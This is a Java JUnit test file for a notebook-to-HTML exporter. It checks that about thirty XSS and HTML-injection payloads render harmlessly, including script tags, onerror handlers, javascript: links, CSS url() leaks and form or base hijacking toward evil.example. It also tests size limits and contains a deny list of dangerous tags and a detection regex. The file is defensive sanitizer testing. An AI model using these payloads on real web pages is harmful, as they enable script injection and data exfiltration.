package io.sparkmaster.server.nbconvert;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.sparkmaster.server.http.Json;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Notebooks that somebody else made, so that they do harm to whoever exports them. */
@Timeout(120)
final class HostileNotebookTest {
  /** Tags as a browser reads them: what is quoted is no attribute. */
  private static final Pattern TAG =
      Pattern.compile("<(/?[a-zA-Z][^\\s/>]*)((?:\\s+[^\\s=>]+(?:=\"[^\"]*\"|='[^']*')?)*)\\s*/?>");

  private static final Pattern DANGER =
      Pattern.compile(
          "(?i)\\son\\w+\\s*=|javascript:|vbscript:|url\\(|expression|@import|srcdoc|srcset|formaction");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/pixel.png'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVa\nScript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>1</script>'>x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
            + " onerror=alert(1)&gt;\">",
        "<style>body{background:url(https://evil.example/?leak)}</style>",
        "<p style='background:url(https://evil.example/a)'>x</p>",
        "<p style='background-image:\\75rl(https://evil.example/a)'>x</p>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><input name=a><button>x</button></form>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example></object><embed src=x>",
        "</main></body></html><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<details ontoggle=alert(1) open>x</details>",
        "<b id=x name=y>clobbered</b>",
        "-->\"'><img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](data:image/png;base64,AA\"onerror=\"alert(1))",
        "$a\"onmouseover=\"alert(1)<img src=x onerror=alert(1)>$",
        "![$\"onerror=alert(1)$](data:image/png;base64,AAAA)",
        "```scala\n</code></pre><script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
      })
  void nothingOfItRunsOrReachesAnybody(String attack) {
    var notebook =
        Notebooks.scala()
            .text(attack)
            .text("$x$ " + attack + " $y$")
            .code(attack)
            .shows("text/html", attack, "text/plain", attack)
            .shows("text/markdown", attack)
            .shows("text/latex", attack)
            .shows("image/png", attack, "text/plain", attack)
            .shows("image/svg+xml", attack, "text/plain", attack)
            .shows("application/" + attack, attack)
            .prints("stdout", attack)
            .fails(attack, attack, attack);
    notebook.cell().put("execution_count", attack);

    assertHarmless(notebook.page());
  }

  @Test
  void theTitleIsTextToo() {
    assertHarmless(
        HtmlPage.of(Notebooks.scala().json(), "</title><script>alert(1)</script>\" onload=\"x"));
  }

  private static void assertHarmless(String page) {
    var body = page.substring(page.indexOf("<body>"));
    var tags = TAG.matcher(body);
    while (tags.find()) {
      assertThat(tags.group(1).toLowerCase(Locale.ROOT))
          .isNotIn(
              List.of(
                  "script",
                  "style",
                  "iframe",
                  "object",
                  "embed",
                  "link",
                  "meta",
                  "base",
                  "form",
                  "input",
                  "button",
                  "svg",
                  "math",
                  "template",
                  "noscript"));
      // What stands between quotes of an alternative text does nothing.
      assertThat(tags.group(2).replaceAll("\\s(alt|aria-label|title)=\"[^\"]*\"", ""))
          .doesNotContainPattern(DANGER)
          .doesNotContain("evil.example/p", " id=", " name=");
    }
    // Nor is anything left that a more forgiving reader could take for a tag.
    assertThat(TAG.matcher(body).replaceAll("")).doesNotContainPattern("<[a-zA-Z!/?]");
    assertThat(page)
        .contains("http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'");
    assertThat(page.split("</html>", -1)).hasSize(2);
  }

  @Test
  void giantOutputsAreCutWithAWordAndThePageIsBounded() {
    var notebook = Notebooks.scala();
    for (int i = 0; i < 10; i++) {
      notebook.code("x").prints("stdout", "<".repeat(2_000_000));
    }
    notebook.code("y").shows("text/html", "<b>".repeat(2_000_000), "text/plain", "in short");
    notebook
        .code("1 ".repeat(1_000_000))
        .shows("image/png", "A".repeat(20 << 20), "text/plain", "too big");

    assertThat(notebook.page())
        .contains("1,800,000 more characters are in the notebook only.", "in short", "too big")
        .hasSizeLessThan(24 << 20);
  }

  @Test
  void aProgressBarOfMillionsOfStepsIsWhatWasThereLast() {
    var steps = "\r".repeat(2_000_000);
    var notebook =
        Notebooks.scala()
            .code("x")
            .prints("stdout", steps + "x")
            .prints(
                "stderr", "a" + steps + "\n" + "b\r".repeat(1_000_000) + "\r\n" + "\n".repeat(9));

    assertThat(notebook.page())
        .contains("<pre class=\"out\">x</pre>", "<pre class=\"out stderr\">a\nb\n\n");
  }

  @Test
  void sourcesAreCutWithAWordWhateverTheirKind() {
    var quotes = "'".repeat(3_000_000);
    var notebook = Notebooks.scala().text(quotes).code(quotes).text(quotes);
    notebook.cell().put("cell_type", "raw");

    var page = notebook.page();

    assertThat(page).hasSizeLessThan(16 << 20);
    assertThat(page.split("2,000,000 more characters are in the notebook only", -1)).hasSize(4);
  }

  @Test
  void theOutputsOfOneCellHaveALimitTogether() {
    var notebook = Notebooks.scala().code("x");
    for (int i = 0; i < 500; i++) {
      notebook.shows("text/plain", "'".repeat(100_000));
    }
    notebook.code("y");
    for (int i = 0; i < 9; i++) {
      notebook.shows("image/png", "A".repeat(1 << 20));
    }

    assertThat(notebook.page())
        .contains(
            "483 more outputs are in the notebook only.",
            "An image of 1,048,598 characters is in the notebook only.")
        .hasSizeLessThan(20 << 20);
  }

  @Test
  void whatIsNamedOnceAndReferredToOftenIsNotRepeatedWithoutEnd() {
    var names = "[a] ![a] ".repeat(20_000);
    var address = "[a]: https://example.org/" + "x".repeat(100_000);
    var images = Notebooks.scala().text("![](attachment:a.png) ".repeat(10_000));
    images.cell().putObject("attachments").putObject("a.png").put("image/png", "A".repeat(1 << 20));
    var formula = "[a]: https://example.org/$" + "x".repeat(900) + "$";
    var text = "[a] ".repeat(100_000);

    assertThat(Notebooks.scala().text(names + "\n\n" + address).page())
        .contains("<pre>[a] ![a] ")
        .hasSizeLessThan(1 << 20);
    assertThat(images.page()).contains("<pre>![](attachment:a.png) ").hasSizeLessThan(1 << 20);
    assertThat(Notebooks.scala().text(text + "\n\n" + formula).page()).hasSizeLessThan(12 << 20);
  }

  @Test
  void deepJsonIsNotIndentedWithoutEnd() {
    var notebook = Notebooks.scala().code("x").shows();
    var data = (ObjectNode) notebook.cell().at("/outputs/0/data");
    var inner = data.putObject("application/json");
    for (int depth = 0; depth < 900; depth++) {
      inner = inner.putObject("a");
    }
    for (int i = 0; i < 100_000; i++) {
      inner.put("k" + i, 1);
    }

    assertThat(notebook.page()).contains("&quot;k1&quot;:1").hasSizeLessThan(2 << 20);
  }

  @Test
  void aPageEndsWhereItsSizeDoes() {
    var notebook = Notebooks.scala();
    for (int i = 0; i < 60; i++) {
      notebook.code("x").shows("image/png", "A".repeat(1 << 20));
    }

    assertThat(notebook.page())
        .contains("The notebook is too large for a page: 44 more cells are left out.")
        .hasSizeLessThan(24 << 20);
  }

  @ParameterizedTest
  @ValueSource(strings = {"> ", "- ", "**a *", "[", "![", "`", "<b>", "$x", "| ", "<!--", "*_"})
  void whatIsNestedWithoutEndIsStillAPage(String deep) {
    assertThat(Notebooks.scala().text(deep.repeat(50_000)).page()).endsWith("</html>\n");
    assertThat(Notebooks.scala().code("1").shows("text/html", deep.repeat(50_000)).page())
        .endsWith("</html>\n");
  }

  @Test
  void anyShapeOfNotebookIsAPageAndAScript() throws Exception {
    for (var text :
        List.of(
            "{}",
            "{\"cells\": 5, \"metadata\": []}",
            "{\"cells\": [1, null, \"a\", [], {}, {\"cell_type\": \"code\"}]}",
            "{\"cells\": [{\"cell_type\": \"code\", \"source\": {}, \"outputs\": 3, \"metadata\":"
                + " 1},{\"cell_type\": \"code\", \"source\": \"x\", \"outputs\": [1, {},"
                + " {\"output_type\": \"error\",\"traceback\": 5}, {\"output_type\":"
                + " \"display_data\", \"data\": {\"text/html\": [], \"image/png\": {}}}]}]}")) {
      JsonNode json = Json.mapper().readTree(text);

      assertThat(HtmlPage.of((ObjectNode) json, "x")).endsWith("</html>\n");
      assertThat(Script.of((ObjectNode) json)).isNotNull();
    }
  }
}
